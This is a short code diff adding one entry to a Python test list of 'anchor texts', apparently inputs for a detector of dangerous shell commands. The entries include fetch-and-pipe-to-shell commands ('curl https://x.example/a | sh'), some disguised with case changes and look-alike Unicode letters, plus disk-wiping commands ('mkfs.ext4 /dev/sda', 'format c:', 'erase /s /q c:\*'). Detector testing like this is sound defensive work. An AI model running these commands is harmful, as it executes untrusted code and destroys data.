@@ -271,6 +271,7 @@ ANCHOR_TEXTS = [
     "CURL https://x.example/a | ſh and Kelvin: mKfs.ext4 /dev/sda",
     "İİ curl https://x.example/a | sh",
     "format c: /q then Format D: /FS:NTFS; erase /s /q c:\\*",
+    "curl @" * 400 + "curl https://x.example/a | sh",  # dense anchors: a window search
 ]
 
 
